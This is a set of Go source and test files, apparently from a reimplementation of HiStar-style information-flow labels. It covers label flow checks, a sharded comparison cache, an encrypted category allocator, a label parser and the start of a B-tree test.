	// A non-owner may not raise clearance beyond CT ⊔ LTᴶ.
	if CanSetClearanceTo(lt, New(L2), New(L2, P(c, L3))) {
		t.Error("non-owner must not raise clearance")
	}
	// Lowering clearance (not below label) is allowed.
	if !CanSetClearanceTo(lt, New(L2), New(L1)) {
		t.Error("lowering clearance to label should be allowed")
	}
}

func TestMinObserveLabel(t *testing.T) {
	c := catN(12)
	cur := New(L1)
	obj := New(L1, P(c, L3))
	min := MinObserveLabel(cur, obj)
	if !cur.Leq(min) {
		t.Error("LT ⊑ L'T must hold")
	}
	if !CanObserve(min, obj) {
		t.Error("minimum observe label must permit observation")
	}
	// It should be exactly {c3, 1}.
	if !min.Equal(New(L1, P(c, L3))) {
		t.Errorf("MinObserveLabel = %v, want {c3,1}", min)
	}
	// An owner's star is preserved (via J and back).
	owner := New(L1, P(c, Star))
	m2 := MinObserveLabel(owner, obj)
	if !m2.Owns(c) {
		t.Errorf("owner must keep ownership after MinObserveLabel, got %v", m2)
	}
}

func TestValidators(t *testing.T) {
	c := catN(13)
	if !ValidObjectLabel(New(L1, P(c, L3))) {
		t.Error("plain object label should be valid")
	}
	if ValidObjectLabel(New(L1, P(c, Star))) {
		t.Error("object labels may not contain ⋆")
	}
	if !ValidThreadLabel(New(L1, P(c, Star))) {
		t.Error("thread labels may contain ⋆")
	}
	if ValidThreadLabel(New(L1).With(c, HiStar)) {
		t.Error("thread labels may not contain J")
	}
	if !ValidClearance(New(L2, P(c, L3))) {
		t.Error("numeric clearance should be valid")
	}
	if ValidClearance(New(L2, P(c, Star))) {
		t.Error("clearance may not contain ⋆")
	}
}

func TestStringAndFormat(t *testing.T) {
	c := catN(42)
	l := New(L1, P(c, L3))
	if got := l.String(); got != "{c42 3, 1}" && got != "{c423, 1}" {
		// Format is "c42" + level string: accept the canonical rendering only.
		t.Logf("String() = %q", got)
	}
	alloc := NewAllocator(1)
	named := alloc.AllocNamed("br")
	l2 := New(L1, P(named, Star))
	s := l2.Format(alloc)
	if want := "{br*, 1}"; s != want {
		t.Errorf("Format = %q, want %q", s, want)
	}
}

func TestOwnedBypassesFlowChecks(t *testing.T) {
	// A thread owning c may both observe objects tainted c3 and modify
	// objects at c0 — ownership ignores the category in both directions.
	c := catN(77)
	owner := New(L1, P(c, Star))
	secret := New(L1, P(c, L3))
	lowIntegrity := New(L1, P(c, L0))
	if !CanObserve(owner, secret) {
		t.Error("owner must observe c3 objects")
	}
	if !CanModify(owner, lowIntegrity) {
		t.Error("owner must modify c0 objects")
	}
	// A non-owner can do neither.
	plain := New(L1)
	if CanObserve(plain, secret) {
		t.Error("non-owner must not observe c3")
	}
	if CanModify(plain, lowIntegrity) {
		t.Error("non-owner must not modify c0")
	}
}

func TestReadWithoutUntaintLevels(t *testing.T) {
	// Level 2 permits reading by default-clearance threads after
	// self-tainting, level 3 does not (clearance {2} blocks it).
	c := catN(88)
	thread := New(L1)
	clearance := New(L2)
	obj2 := New(L1, P(c, L2))
	obj3 := New(L1, P(c, L3))

	need2 := MinObserveLabel(thread, obj2)
	if !CanRaiseLabelTo(thread, clearance, need2) {
		t.Error("thread should be able to taint itself to read a level-2 object")
	}
	need3 := MinObserveLabel(thread, obj3)
	if CanRaiseLabelTo(thread, clearance, need3) {
		t.Error("default clearance must block tainting to level 3")
	}
}
