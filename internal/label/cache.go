package label

import "sync"

// Cache memoizes the results of Leq comparisons between immutable labels.
// The HiStar kernel "caches the result of comparisons between immutable
// labels" (Section 4); this is the equivalent structure, and the ablation
// benchmarks measure its effect.
//
// The cache is sharded: a comparison is keyed by the two labels' stored
// fingerprints, the shard is chosen from the mixed fingerprint bits, and
// each shard has its own mutex, map, and statistics.  A full shard evicts
// only itself, so one hot shard can no longer discard the entire working
// set, and disjoint comparisons proceed on different shards without
// contending.  Lookups read the precomputed fingerprints (including the
// raised Lᴶ fingerprint for CanObserve/CanModify), so a cache hit performs
// no label-content hashing, sorting, or allocation.
//
// A Cache is safe for concurrent use.
type Cache struct {
	shards      []cacheShard
	shardMask   uint64
	maxPerShard int
}

type cacheKey struct{ a, b Fingerprint }

type cacheShard struct {
	mu        sync.Mutex
	m         map[cacheKey]bool
	hits      uint64
	misses    uint64
	evictions uint64
	_         [88]byte // pad to its own cache lines; shards are hot and adjacent
}

// maxCacheShards bounds the shard count; 64 shards keep contention
// negligible at any realistic GOMAXPROCS while staying cheap to aggregate.
const maxCacheShards = 64

// NewCache returns a comparison cache bounded to roughly maxEntries entries
// (0 means a default of 65536).  The bound is split evenly across the
// shards; when one shard fills up, only that shard is evicted.
func NewCache(maxEntries int) *Cache {
	if maxEntries <= 0 {
		maxEntries = 65536
	}
	shards := 1
	for shards*2 <= maxCacheShards && shards*2 <= maxEntries {
		shards *= 2
	}
	c := &Cache{
		shards:      make([]cacheShard, shards),
		shardMask:   uint64(shards - 1),
		maxPerShard: maxEntries / shards,
	}
	for i := range c.shards {
		c.shards[i].m = make(map[cacheKey]bool)
	}
	return c
}

// shard picks the shard for a key by mixing the two fingerprints.
func (c *Cache) shard(k cacheKey) *cacheShard {
	h := (uint64(k.a) ^ uint64(k.b)<<1) * 0x9e3779b97f4a7c15
	return &c.shards[(h>>32)&c.shardMask]
}

// lookup memoizes compute() under the key (a, b).
func (c *Cache) lookup(a, b Fingerprint, compute func() bool) bool {
	k := cacheKey{a, b}
	s := c.shard(k)
	s.mu.Lock()
	if v, ok := s.m[k]; ok {
		s.hits++
		s.mu.Unlock()
		return v
	}
	s.misses++
	s.mu.Unlock()

	v := compute() // outside the lock: comparisons must not serialize
	s.mu.Lock()
	if _, ok := s.m[k]; !ok {
		if len(s.m) >= c.maxPerShard {
			s.evictLocked(c.maxPerShard / 2)
		}
		s.m[k] = v
	}
	s.mu.Unlock()
	return v
}

// evictLocked discards entries (in Go's randomized map iteration order)
// until at most target remain.  Evicting half the shard instead of clearing
// it keeps the surviving comparisons hot: under sustained churn — e.g. a
// many-user web workload minting fresh categories — a full clear caused
// periodic miss storms where every in-flight comparison recomputed and
// re-inserted at once.
func (s *cacheShard) evictLocked(target int) {
	for k := range s.m {
		if len(s.m) <= target {
			break
		}
		delete(s.m, k)
		s.evictions++
	}
}

// Leq returns l ⊑ m, consulting and updating the cache.
func (c *Cache) Leq(l, m Label) bool {
	return c.lookup(l.Fingerprint(), m.Fingerprint(), func() bool { return l.Leq(m) })
}

// LeqRaised returns lᴶ ⊑ mᴶ, keying on the precomputed raised fingerprints
// so neither superscript-J form is materialized on a hit.  The kernel uses
// this for thread-to-thread observation checks.
func (c *Cache) LeqRaised(l, m Label) bool {
	return c.lookup(l.RaisedFingerprint(), m.RaisedFingerprint(), func() bool {
		return l.RaiseJ().Leq(m.RaiseJ())
	})
}

// CanObserve is the cached form of the package-level CanObserve.  The key
// pairs the object's fingerprint with the thread's precomputed raised
// fingerprint; threadᴶ is materialized only on a miss.
func (c *Cache) CanObserve(thread, obj Label) bool {
	return c.lookup(obj.Fingerprint(), thread.RaisedFingerprint(), func() bool {
		return obj.Leq(thread.RaiseJ())
	})
}

// CanModify is the cached form of the package-level CanModify.
func (c *Cache) CanModify(thread, obj Label) bool {
	return c.lookup(thread.Fingerprint(), obj.Fingerprint(), func() bool { return thread.Leq(obj) }) &&
		c.CanObserve(thread, obj)
}

// ShardStats describes one cache shard.
type ShardStats struct {
	Entries   int
	Hits      uint64
	Misses    uint64
	Evictions uint64
}

// CacheStats aggregates cache statistics, keeping the per-shard breakdown so
// eviction churn is attributable instead of vanishing into a global clear.
type CacheStats struct {
	Hits      uint64
	Misses    uint64
	Evictions uint64 // total entries discarded by per-shard eviction
	Shards    []ShardStats
}

// Stats returns cumulative hit/miss/eviction counts, totalled and per shard.
func (c *Cache) Stats() CacheStats {
	st := CacheStats{Shards: make([]ShardStats, len(c.shards))}
	for i := range c.shards {
		s := &c.shards[i]
		s.mu.Lock()
		ss := ShardStats{Entries: len(s.m), Hits: s.hits, Misses: s.misses, Evictions: s.evictions}
		s.mu.Unlock()
		st.Shards[i] = ss
		st.Hits += ss.Hits
		st.Misses += ss.Misses
		st.Evictions += ss.Evictions
	}
	return st
}

// Len returns the number of memoized comparisons across all shards.
func (c *Cache) Len() int {
	n := 0
	for i := range c.shards {
		s := &c.shards[i]
		s.mu.Lock()
		n += len(s.m)
		s.mu.Unlock()
	}
	return n
}

// Reset discards all memoized comparisons and statistics.
func (c *Cache) Reset() {
	for i := range c.shards {
		s := &c.shards[i]
		s.mu.Lock()
		s.m = make(map[cacheKey]bool)
		s.hits, s.misses, s.evictions = 0, 0, 0
		s.mu.Unlock()
	}
}
