package label

import (
	"encoding/binary"
	"hash/fnv"
	"sync"
	"sync/atomic"
)

// Fingerprint is a compact identity for an immutable label, used as a cache
// key.  Labels with the same fingerprint are Equal with overwhelming
// probability; the kernel only caches comparisons between labels of
// immutable objects, exactly as Section 4 describes.
type Fingerprint uint64

// Fingerprint computes a 64-bit FNV-based digest of the label's canonical
// form (sorted category/level pairs plus the default level).
func (l Label) Fingerprint() Fingerprint {
	h := fnv.New64a()
	var buf [9]byte
	buf[0] = byte(l.def)
	h.Write(buf[:1])
	for _, c := range l.Explicit() {
		binary.LittleEndian.PutUint64(buf[:8], uint64(c))
		buf[8] = byte(l.Get(c))
		h.Write(buf[:])
	}
	return Fingerprint(h.Sum64())
}

// Cache memoizes the results of Leq comparisons between immutable labels.
// The HiStar kernel "caches the result of comparisons between immutable
// labels" (Section 4); this is the equivalent structure, and the ablation
// benchmarks measure its effect.
//
// A Cache is safe for concurrent use.
type Cache struct {
	mu   sync.RWMutex
	leq  map[[2]Fingerprint]bool
	hits atomic.Uint64
	miss atomic.Uint64
	max  int
}

// NewCache returns a comparison cache bounded to roughly maxEntries entries
// (0 means a default of 65536).  When the bound is exceeded the cache is
// cleared; label working sets are small so this is simpler than LRU and
// matches the kernel's throwaway cache.
func NewCache(maxEntries int) *Cache {
	if maxEntries <= 0 {
		maxEntries = 65536
	}
	return &Cache{leq: make(map[[2]Fingerprint]bool), max: maxEntries}
}

// Leq returns l ⊑ m, consulting and updating the cache.
func (c *Cache) Leq(l, m Label) bool {
	key := [2]Fingerprint{l.Fingerprint(), m.Fingerprint()}
	c.mu.RLock()
	v, ok := c.leq[key]
	c.mu.RUnlock()
	if ok {
		c.hits.Add(1)
		return v
	}
	c.miss.Add(1)
	v = l.Leq(m)
	c.mu.Lock()
	if len(c.leq) >= c.max {
		c.leq = make(map[[2]Fingerprint]bool)
	}
	c.leq[key] = v
	c.mu.Unlock()
	return v
}

// CanObserve is the cached form of the package-level CanObserve.
func (c *Cache) CanObserve(thread, obj Label) bool {
	return c.Leq(obj, thread.RaiseJ())
}

// CanModify is the cached form of the package-level CanModify.
func (c *Cache) CanModify(thread, obj Label) bool {
	return c.Leq(thread, obj) && c.Leq(obj, thread.RaiseJ())
}

// Stats returns cumulative hit and miss counts.
func (c *Cache) Stats() (hits, misses uint64) {
	return c.hits.Load(), c.miss.Load()
}

// Len returns the number of memoized comparisons.
func (c *Cache) Len() int {
	c.mu.RLock()
	defer c.mu.RUnlock()
	return len(c.leq)
}

// Reset discards all memoized comparisons and statistics.
func (c *Cache) Reset() {
	c.mu.Lock()
	c.leq = make(map[[2]Fingerprint]bool)
	c.mu.Unlock()
	c.hits.Store(0)
	c.miss.Store(0)
}
