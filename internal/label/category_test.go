package label

import (
	"sync"
	"testing"
)

func TestAllocatorUniqueness(t *testing.T) {
	a := NewAllocator(42)
	seen := make(map[Category]bool)
	const n = 20000
	for i := 0; i < n; i++ {
		c := a.Alloc()
		if !c.Valid() {
			t.Fatalf("allocated category %d exceeds 61 bits", c)
		}
		if seen[c] {
			t.Fatalf("duplicate category %d after %d allocations", c, i)
		}
		seen[c] = true
	}
	if a.Allocated() != n {
		t.Errorf("Allocated() = %d, want %d", a.Allocated(), n)
	}
}

func TestAllocatorDeterministicPerSeed(t *testing.T) {
	a := NewAllocator(7)
	b := NewAllocator(7)
	c := NewAllocator(8)
	var differs bool
	for i := 0; i < 100; i++ {
		ca, cb, cc := a.Alloc(), b.Alloc(), c.Alloc()
		if ca != cb {
			t.Fatalf("same seed diverged at %d: %d vs %d", i, ca, cb)
		}
		if ca != cc {
			differs = true
		}
	}
	if !differs {
		t.Error("different seeds should produce different category sequences")
	}
}

func TestAllocatorHidesCounter(t *testing.T) {
	// Sequential counters should not produce sequential identifiers.
	a := NewAllocator(1)
	c1, c2, c3 := a.Alloc(), a.Alloc(), a.Alloc()
	if c2 == c1+1 && c3 == c2+1 {
		t.Error("category identifiers look like a bare counter; encryption missing")
	}
}

func TestAllocatorConcurrent(t *testing.T) {
	a := NewAllocator(3)
	const workers, per = 8, 500
	var mu sync.Mutex
	seen := make(map[Category]bool)
	var wg sync.WaitGroup
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			local := make([]Category, 0, per)
			for i := 0; i < per; i++ {
				local = append(local, a.Alloc())
			}
			mu.Lock()
			defer mu.Unlock()
			for _, c := range local {
				if seen[c] {
					t.Errorf("duplicate category %d", c)
				}
				seen[c] = true
			}
		}()
	}
	wg.Wait()
	if len(seen) != workers*per {
		t.Errorf("expected %d unique categories, got %d", workers*per, len(seen))
	}
}

func TestAllocatorNames(t *testing.T) {
	a := NewAllocator(5)
	c := a.AllocNamed("br")
	if name, ok := a.CategoryName(c); !ok || name != "br" {
		t.Errorf("CategoryName = %q, %v", name, ok)
	}
	a.SetName(c, "bobr")
	if name, _ := a.CategoryName(c); name != "bobr" {
		t.Errorf("SetName not applied: %q", name)
	}
	if _, ok := a.CategoryName(Category(123456)); ok {
		t.Error("unnamed category should not resolve")
	}
}

func TestCategoryValid(t *testing.T) {
	if !MaxCategory.Valid() {
		t.Error("MaxCategory must be valid")
	}
	if (MaxCategory + 1).Valid() {
		t.Error("MaxCategory+1 must be invalid")
	}
}
