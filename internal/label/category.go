package label

import (
	"crypto/sha256"
	"encoding/binary"
	"fmt"
	"sync"
)

// Category is a 61-bit opaque category identifier.  The kernel generates
// category names by encrypting a counter with a block cipher so that one
// thread cannot learn how many categories another thread has allocated
// (Section 2).  The top three bits of the uint64 are always zero, which in
// the original system left room to pack a 3-bit taint level alongside the
// category name in a 64-bit label entry.
type Category uint64

// CategoryBits is the width of a category identifier.
const CategoryBits = 61

// MaxCategory is the largest representable category identifier.
const MaxCategory Category = (1 << CategoryBits) - 1

// String renders the category as the paper would, an opaque number.
func (c Category) String() string { return fmt.Sprintf("c%d", uint64(c)) }

// Valid reports whether the value fits in 61 bits.
func (c Category) Valid() bool { return c <= MaxCategory }

// Allocator hands out fresh category identifiers.  It encrypts a
// monotonically increasing counter with a keyed Feistel permutation over the
// 61-bit identifier space, so identifiers are unique (the permutation is a
// bijection) yet reveal nothing about allocation order or volume.
//
// An Allocator is safe for concurrent use.
type Allocator struct {
	mu      sync.Mutex
	counter uint64
	keys    [4][32]byte

	names map[Category]string
}

// NewAllocator returns an allocator whose permutation is keyed by seed.
// Two allocators created with the same seed produce the same identifier
// sequence, which keeps simulations deterministic.
func NewAllocator(seed uint64) *Allocator {
	a := &Allocator{names: make(map[Category]string)}
	var s [8]byte
	binary.LittleEndian.PutUint64(s[:], seed)
	for i := range a.keys {
		h := sha256.New()
		h.Write([]byte("histar-category-key"))
		h.Write(s[:])
		h.Write([]byte{byte(i)})
		copy(a.keys[i][:], h.Sum(nil))
	}
	return a
}

// Alloc returns a previously unused category identifier.
func (a *Allocator) Alloc() Category {
	a.mu.Lock()
	defer a.mu.Unlock()
	a.counter++
	return a.encrypt(a.counter)
}

// AllocNamed allocates a category and records a human-readable name for it,
// used only when formatting labels for humans (wrap, tests, examples).
func (a *Allocator) AllocNamed(name string) Category {
	c := a.Alloc()
	a.mu.Lock()
	a.names[c] = name
	a.mu.Unlock()
	return c
}

// SetName records or replaces the display name of a category.
func (a *Allocator) SetName(c Category, name string) {
	a.mu.Lock()
	a.names[c] = name
	a.mu.Unlock()
}

// CategoryName implements Namer.
func (a *Allocator) CategoryName(c Category) (string, bool) {
	a.mu.Lock()
	defer a.mu.Unlock()
	s, ok := a.names[c]
	return s, ok
}

// Allocated returns how many categories have been handed out.  It exists for
// tests and statistics; the whole point of the encrypted counter is that
// other threads cannot learn this.
func (a *Allocator) Allocated() uint64 {
	a.mu.Lock()
	defer a.mu.Unlock()
	return a.counter
}

// encrypt applies a 4-round unbalanced Feistel permutation over the 61-bit
// space: the value is split into a 30-bit left half and a 31-bit right half,
// and rounds alternately XOR a keyed function of one half into the other.
// Each round is invertible, so the whole construction is a bijection on
// [0, 2^61) and distinct counters always yield distinct categories.
func (a *Allocator) encrypt(v uint64) Category {
	const (
		leftBits  = 30
		rightBits = 31
		leftMask  = (1 << leftBits) - 1
		rightMask = (1 << rightBits) - 1
	)
	l := uint32((v >> rightBits) & leftMask)
	r := uint32(v & rightMask)
	for round := 0; round < 4; round++ {
		if round%2 == 0 {
			l ^= a.roundFn(round, r) & leftMask
		} else {
			r ^= a.roundFn(round, l) & rightMask
		}
	}
	out := (uint64(l) << rightBits) | uint64(r)
	return Category(out & uint64(MaxCategory))
}

func (a *Allocator) roundFn(round int, half uint32) uint32 {
	var buf [4]byte
	binary.LittleEndian.PutUint32(buf[:], half)
	h := sha256.New()
	h.Write(a.keys[round][:])
	h.Write(buf[:])
	sum := h.Sum(nil)
	return binary.LittleEndian.Uint32(sum[:4])
}
