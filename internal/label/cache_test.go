package label

import (
	"sync"
	"testing"
)

func TestCacheCorrectnessAndStats(t *testing.T) {
	c := NewCache(0)
	a := New(L1, P(Category(1), L3))
	b := New(L2)
	if got, want := c.Leq(a, b), a.Leq(b); got != want {
		t.Errorf("cached Leq = %v, direct = %v", got, want)
	}
	// Second query should hit.
	c.Leq(a, b)
	st := c.Stats()
	if st.Hits != 1 || st.Misses != 1 {
		t.Errorf("stats = %d hits, %d misses; want 1,1", st.Hits, st.Misses)
	}
	if c.Len() != 1 {
		t.Errorf("Len = %d", c.Len())
	}
	c.Reset()
	if c.Len() != 0 {
		t.Error("Reset should empty the cache")
	}
	st = c.Stats()
	if st.Hits != 0 || st.Misses != 0 {
		t.Error("Reset should clear stats")
	}
}

func TestCacheEviction(t *testing.T) {
	c := NewCache(4)
	for i := 0; i < 20; i++ {
		a := New(L1, P(Category(uint64(i+1)), L3))
		c.Leq(a, New(L2))
	}
	if c.Len() > 4 {
		t.Errorf("cache exceeded bound: %d entries", c.Len())
	}
}

func TestCacheConcurrent(t *testing.T) {
	c := NewCache(0)
	labels := make([]Label, 16)
	for i := range labels {
		labels[i] = New(L1, P(Category(uint64(i+1)), Level(1+i%4)))
	}
	var wg sync.WaitGroup
	for w := 0; w < 8; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			for i := 0; i < 1000; i++ {
				a := labels[(i+w)%len(labels)]
				b := labels[i%len(labels)]
				if c.Leq(a, b) != a.Leq(b) {
					t.Errorf("cache disagreement for %v ⊑ %v", a, b)
					return
				}
			}
		}(w)
	}
	wg.Wait()
}

// TestShardedEvictionBoundsMissStorms pins down the motivation for the
// shard refactor.  The old single-lock design cleared the whole cache when
// full, so a cold insert stream periodically discarded the entire hot
// working set at one instant: whole rounds where every hot comparison
// missed at once, silently distorting any statistics or benchmark running
// at that moment.  Per-shard eviction decorrelates the discards — each
// round loses at most the slices of the few shards that happened to fill —
// so some of the hot set survives every round.
func TestShardedEvictionBoundsMissStorms(t *testing.T) {
	const bound = 1024
	hot := make([]Label, 64)
	for i := range hot {
		hot[i] = New(L1, P(Category(uint64(i+1)), L3))
	}
	clearance := New(L2)

	// minRoundHits runs rounds of (cold burst, then hot sweep) and returns
	// the worst round's hot-sweep hit count, skipping the cold first round.
	minRoundHits := func(leq func(a, b Label) bool, stats func() uint64) uint64 {
		cold := 0
		min := uint64(len(hot)) + 1
		for round := 0; round < 40; round++ {
			for i := 0; i < bound/2; i++ {
				cold++
				a := New(L1, P(Category(uint64(1_000_000+cold)), L3))
				leq(a, clearance)
			}
			before := stats()
			for _, h := range hot {
				if got, want := leq(h, clearance), h.Leq(clearance); got != want {
					t.Fatalf("cache disagreement for %v", h)
				}
			}
			if hits := stats() - before; round > 0 && hits < min {
				min = hits
			}
		}
		return min
	}

	sharded := NewCache(bound)
	shardedMin := minRoundHits(sharded.Leq, func() uint64 { return sharded.Stats().Hits })

	single := newSingleLockStatsCache(bound)
	singleMin := minRoundHits(single.Leq, func() uint64 { return single.hits })

	t.Logf("worst-round hot hits out of %d: sharded=%d, single-lock=%d", len(hot), shardedMin, singleMin)
	if singleMin != 0 {
		t.Errorf("expected the global clear to produce a round with zero hot hits, got %d", singleMin)
	}
	if shardedMin < uint64(len(hot))/8 {
		t.Errorf("per-shard eviction should never discard the whole hot set in one round: worst round had %d/%d hits", shardedMin, len(hot))
	}
}

// singleLockStatsCache replicates the pre-shard design (one RWMutex, global
// clear when full) with a hit counter, for the working-set retention test.
type singleLockStatsCache struct {
	mu   sync.RWMutex
	m    map[cacheKey]bool
	max  int
	hits uint64
}

func newSingleLockStatsCache(max int) *singleLockStatsCache {
	return &singleLockStatsCache{m: make(map[cacheKey]bool), max: max}
}

func (c *singleLockStatsCache) Leq(l, m Label) bool {
	k := cacheKey{l.Fingerprint(), m.Fingerprint()}
	c.mu.RLock()
	v, ok := c.m[k]
	c.mu.RUnlock()
	if ok {
		c.hits++
		return v
	}
	v = l.Leq(m)
	c.mu.Lock()
	if len(c.m) >= c.max {
		c.m = make(map[cacheKey]bool)
	}
	c.m[k] = v
	c.mu.Unlock()
	return v
}

func TestInternTableBounded(t *testing.T) {
	// Churn far more unique labels than the bound; the advisory table must
	// clear itself rather than grow without limit, and interning must keep
	// returning Equal labels across clears.
	for i := 0; i < maxInternedLabels+1024; i++ {
		l := New(L1, P(Category(uint64(i+1)), Star))
		if got := Intern(l); !got.Equal(l) {
			t.Fatalf("Intern changed the label at i=%d", i)
		}
	}
	if n := InternedCount(); n > maxInternedLabels {
		t.Errorf("intern table exceeded bound: %d > %d", n, maxInternedLabels)
	}
}

// TestInternPartialEvictionKeepsSurvivors pins the sharded intern table's
// storm-avoidance property: filling the table under churn evicts whole
// fingerprint buckets per shard, not the entire population, so a meaningful
// fraction of previously-interned labels keep their canonical instance (and
// the Same fast path) across an eviction, and the stats surface the churn.
func TestInternPartialEvictionKeepsSurvivors(t *testing.T) {
	before := InternStatsSnapshot()

	hot := make([]Label, 512)
	for i := range hot {
		hot[i] = Intern(New(L1, P(Category(uint64(0xbeef0000+i)), L3)))
	}
	// Churn enough unique labels to force evictions in every shard.
	for i := 0; i < 2*maxInternedLabels; i++ {
		Intern(New(L1, P(Category(uint64(0x1000000+i)), Star)))
	}
	st := InternStatsSnapshot()
	if st.Evictions == before.Evictions {
		t.Fatal("churn past the bound should have evicted")
	}
	if st.Count > maxInternedLabels {
		t.Errorf("intern table exceeded bound: %d > %d", st.Count, maxInternedLabels)
	}
	if st.MaxShard > maxInternedPerShard {
		t.Errorf("shard exceeded per-shard bound: %d > %d", st.MaxShard, maxInternedPerShard)
	}

	survivors := 0
	for i := range hot {
		if Same(Intern(New(L1, P(Category(uint64(0xbeef0000+i)), L3))), hot[i]) {
			survivors++
		}
	}
	// With half-shard eviction an old full clear would leave 0 survivors
	// with certainty; any survivors at all distinguishes partial eviction.
	// (The exact count depends on map iteration order; a small floor keeps
	// the test robust.)
	if survivors == 0 {
		t.Error("no hot label survived eviction; partial eviction should retain part of the population")
	}
	t.Logf("survivors: %d/%d, evictions: %d, max shard: %d", survivors, len(hot), st.Evictions-before.Evictions, st.MaxShard)
}
