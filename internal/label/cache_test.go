package label

import (
	"sync"
	"testing"
)

func TestCacheCorrectnessAndStats(t *testing.T) {
	c := NewCache(0)
	a := New(L1, P(Category(1), L3))
	b := New(L2)
	if got, want := c.Leq(a, b), a.Leq(b); got != want {
		t.Errorf("cached Leq = %v, direct = %v", got, want)
	}
	// Second query should hit.
	c.Leq(a, b)
	hits, misses := c.Stats()
	if hits != 1 || misses != 1 {
		t.Errorf("stats = %d hits, %d misses; want 1,1", hits, misses)
	}
	if c.Len() != 1 {
		t.Errorf("Len = %d", c.Len())
	}
	c.Reset()
	if c.Len() != 0 {
		t.Error("Reset should empty the cache")
	}
	hits, misses = c.Stats()
	if hits != 0 || misses != 0 {
		t.Error("Reset should clear stats")
	}
}

func TestCacheEviction(t *testing.T) {
	c := NewCache(4)
	for i := 0; i < 20; i++ {
		a := New(L1, P(Category(uint64(i+1)), L3))
		c.Leq(a, New(L2))
	}
	if c.Len() > 4 {
		t.Errorf("cache exceeded bound: %d entries", c.Len())
	}
}

func TestCacheConcurrent(t *testing.T) {
	c := NewCache(0)
	labels := make([]Label, 16)
	for i := range labels {
		labels[i] = New(L1, P(Category(uint64(i+1)), Level(1+i%4)))
	}
	var wg sync.WaitGroup
	for w := 0; w < 8; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			for i := 0; i < 1000; i++ {
				a := labels[(i+w)%len(labels)]
				b := labels[i%len(labels)]
				if c.Leq(a, b) != a.Leq(b) {
					t.Errorf("cache disagreement for %v ⊑ %v", a, b)
					return
				}
			}
		}(w)
	}
	wg.Wait()
}
