package label

import "testing"

func TestParseBasic(t *testing.T) {
	l, err := Parse("{c5 3, c9 0, 1}", nil)
	if err != nil {
		t.Fatal(err)
	}
	want := New(L1, P(Category(5), L3), P(Category(9), L0))
	if !l.Equal(want) {
		t.Errorf("got %v, want %v", l, want)
	}
}

func TestParseColonSeparator(t *testing.T) {
	l, err := Parse("{c5:3, 2}", nil)
	if err != nil {
		t.Fatal(err)
	}
	if l.Get(Category(5)) != L3 || l.Default() != L2 {
		t.Errorf("got %v", l)
	}
}

func TestParseCompactPaperStyle(t *testing.T) {
	// "br3" style with a resolver for symbolic names.
	alloc := NewAllocator(1)
	br := alloc.AllocNamed("br")
	resolver := func(name string) (Category, bool) {
		if name == "br" {
			return br, true
		}
		return 0, false
	}
	l, err := Parse("{br3, 1}", resolver)
	if err != nil {
		t.Fatal(err)
	}
	if l.Get(br) != L3 {
		t.Errorf("br level = %v", l.Get(br))
	}
}

func TestParseStar(t *testing.T) {
	l, err := Parse("{c7 *, 1}", nil)
	if err != nil {
		t.Fatal(err)
	}
	if !l.Owns(Category(7)) {
		t.Error("expected ownership of c7")
	}
}

func TestParseDefaultOnly(t *testing.T) {
	for _, s := range []string{"{1}", "{0}", "{2}", "{3}"} {
		l, err := Parse(s, nil)
		if err != nil {
			t.Fatalf("%s: %v", s, err)
		}
		if l.NumExplicit() != 0 {
			t.Errorf("%s should have no explicit entries", s)
		}
	}
}

func TestParseErrors(t *testing.T) {
	bad := []string{
		"",           // empty
		"{",          // unterminated
		"{}",         // no default
		"{*}",        // star default
		"{J}",        // J default
		"{c1 5, 1}",  // bad level
		"{foo 3, 1}", // unknown symbolic name, no resolver
		"c1 3, 1",    // missing braces
		"{c1 3,, 1}", // empty entry
		"{cX 3, 1}",  // non-numeric category
	}
	for _, s := range bad {
		if _, err := Parse(s, nil); err == nil {
			t.Errorf("Parse(%q) should fail", s)
		}
	}
}

func TestMustParsePanics(t *testing.T) {
	defer func() {
		if recover() == nil {
			t.Error("MustParse should panic on invalid input")
		}
	}()
	MustParse("{not a label", nil)
}
