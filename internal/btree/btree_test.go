package btree

import (
	"math/rand"
	"sort"
	"testing"
	"testing/quick"
)

func TestEmptyTree(t *testing.T) {
	var tr Tree
	if tr.Len() != 0 {
		t.Error("empty tree length")
	}
	if _, ok := tr.Get(K1(1)); ok {
		t.Error("Get on empty tree")
	}
	if tr.Delete(K1(1)) {
		t.Error("Delete on empty tree")
	}
	if _, _, ok := tr.Ceiling(K1(0)); ok {
		t.Error("Ceiling on empty tree")
	}
	if _, _, ok := tr.Floor(K1(10)); ok {
		t.Error("Floor on empty tree")
	}
	tr.Scan(func(Key, uint64) bool { t.Error("scan visited something"); return false })
}

func TestPutGetReplace(t *testing.T) {
	var tr Tree
	tr.Put(K1(5), 50)
	tr.Put(K1(3), 30)
	tr.Put(K1(9), 90)
	if tr.Len() != 3 {
		t.Errorf("Len = %d", tr.Len())
	}
	if v, ok := tr.Get(K1(3)); !ok || v != 30 {
		t.Errorf("Get(3) = %d, %v", v, ok)
	}
	tr.Put(K1(3), 33)
	if tr.Len() != 3 {
		t.Errorf("replace changed length: %d", tr.Len())
	}
	if v, _ := tr.Get(K1(3)); v != 33 {
		t.Errorf("replaced value = %d", v)
	}
}

func TestLargeInsertAndScanOrder(t *testing.T) {
	var tr Tree
	const n = 10000
	perm := rand.New(rand.NewSource(1)).Perm(n)
	for _, i := range perm {
		tr.Put(K1(uint64(i)), uint64(i)*2)
	}
	if tr.Len() != n {
		t.Fatalf("Len = %d", tr.Len())
	}
	var prev Key
	count := 0
	tr.Scan(func(k Key, v uint64) bool {
		if count > 0 && !prev.Less(k) {
			t.Fatalf("scan out of order: %v then %v", prev, k)
		}
		if v != k[0]*2 {
			t.Fatalf("wrong value for %v: %d", k, v)
		}
		prev = k
		count++
		return true
	})
	if count != n {
		t.Errorf("scan visited %d", count)
	}
	// A tree with 10k keys and degree 64 should be shallow (balanced on the
	// insert path).
	if d := tr.Depth(); d > 4 {
		t.Errorf("tree depth = %d, expected <= 4", d)
	}
}

func TestDelete(t *testing.T) {
	var tr Tree
	for i := uint64(0); i < 1000; i++ {
		tr.Put(K1(i), i)
	}
	for i := uint64(0); i < 1000; i += 2 {
		if !tr.Delete(K1(i)) {
			t.Fatalf("delete %d failed", i)
		}
	}
	if tr.Len() != 500 {
		t.Errorf("Len after deletes = %d", tr.Len())
	}
	for i := uint64(0); i < 1000; i++ {
		_, ok := tr.Get(K1(i))
		if (i%2 == 0) == ok {
			t.Errorf("key %d present=%v", i, ok)
		}
	}
	if tr.Delete(K1(0)) {
